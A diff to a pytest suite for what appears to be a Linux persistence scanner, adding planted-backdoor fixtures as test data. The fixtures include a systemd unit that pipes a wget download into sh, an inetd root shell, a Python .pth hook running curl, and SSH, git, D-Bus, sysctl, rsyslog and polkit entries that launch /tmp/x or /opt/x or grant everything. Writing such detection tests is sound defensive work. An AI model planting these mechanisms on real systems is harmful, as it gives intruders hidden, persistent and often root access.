@@ -40,6 +40,13 @@ PLANTS = {
     "/etc/systemd/system/upd.service": "[Service]\nExecStart=/bin/sh -c 'wget -O- http://203.0.113.66|sh'\n",
     "/etc/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
     "/home/carol/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
+    "/srv/carla/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
+    "/srv/carla/.config/autostart/x.desktop": "[Desktop Entry]\nExec=/tmp/x\n",
+    "/srv/carla/.local/lib/python3.11/site-packages/x.pth": "import os;os.system('nohup curl x')\n",
+    "/srv/carla/.ssh/config": "Host *\n  ProxyCommand /tmp/x %h\n",
+    "/etc/ssh/ssh_config.d/x.conf": 'Match exec "/tmp/x"\n',
+    "/srv/carla/.gitconfig": "[core]\n\tpager = /tmp/x\n",
+    "/usr/share/dbus-1/system-services/x.service": "[D-BUS Service]\nExec=/tmp/x\nUser=root\n",
     "/etc/inittab": "x:2345:respawn:/dev/shm/x\n",
     "/etc/inetd.conf": "x stream tcp nowait root /tmp/sh sh -i\n",
     "/etc/xinetd.d/x": "service x\n{\n server = /tmp/x\n}\n",
@@ -80,6 +87,8 @@ PLANTS = {
 @pytest.mark.parametrize("path", PLANTS)
 def test_each_way_to_come_back(tmp_path: Path, path: str) -> None:
     put(clean(tmp_path), path, PLANTS[path], 0o755)
+    with (tmp_path / "etc/passwd").open("a") as accounts:
+        accounts.write("carla:x:1044:1044::/srv/carla:/bin/bash\n")
     found = look(tmp_path)
     assert len(found.suspicious) == 1, found.items
     item = found.of(Verdict.SUSPICIOUS)[0]
@@ -241,3 +250,40 @@ def test_nothing_but_files_is_read(tmp_path: Path) -> None:
     (tmp_path / "etc/cron.d/out").symlink_to("/../../../../etc/passwd")
     put(tmp_path, "/etc/cron.d/garbage", bytes(range(256)) * 100)
     look(tmp_path)
+
+
+def test_a_unit_in_a_home_runs_as_whose_home_it_is(tmp_path: Path) -> None:
+    """Whoever planted it: root may write to every home."""
+    path = "/home/carol/.config/systemd/user/x.service"
+    put(clean(tmp_path), path, "[Service]\nExecStart=/tmp/x\n")
+    assert "as carol" in look(tmp_path).named(f"{path}:2").says
+
+
+def test_what_everybody_writes_for_themselves_is_no_sign(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/home/carol/.ssh/config", "Host x\n  ProxyCommand ssh -W %h:%p gate\n")
+    put(tmp_path, "/home/carol/.gitconfig", "[alias]\n\tst = !git status\n[core]\n\tpager = less\n")
+    found = look(tmp_path)
+    assert not found.of(Verdict.NOTABLE)
+    assert "as carol" in found.named("/home/carol/.ssh/config:2").says
+
+
+def test_a_proxy_of_root_is_to_be_explained(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/root/.ssh/config", "Host *\n  ProxyCommand /opt/x %h\n")
+    (item,) = look(tmp_path).of(Verdict.NOTABLE)
+    assert "ssh's settings runs `/opt/x %h` as root" in item.says
+
+
+OPTIONS = {
+    "/etc/sysctl.d/x.conf": "kernel.core_pattern = |/opt/x %p\n",
+    "/etc/rsyslog.d/x.conf": '*.* action(type="omprog" binary="/opt/x -v")\n',
+    "/etc/binfmt.d/x.conf": ":x:M::MZ::/opt/x:\n",
+    "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) {\n  return polkit.Result.YES;\n});\n",
+}
+
+
+@pytest.mark.parametrize("path", OPTIONS)
+def test_each_option_that_opens_a_door(tmp_path: Path, path: str) -> None:
+    put(clean(tmp_path), path, OPTIONS[path])
+    (item,) = look(tmp_path).of(Verdict.NOTABLE)
+    assert item.name.startswith(f"{path}:")
+    assert item.technique
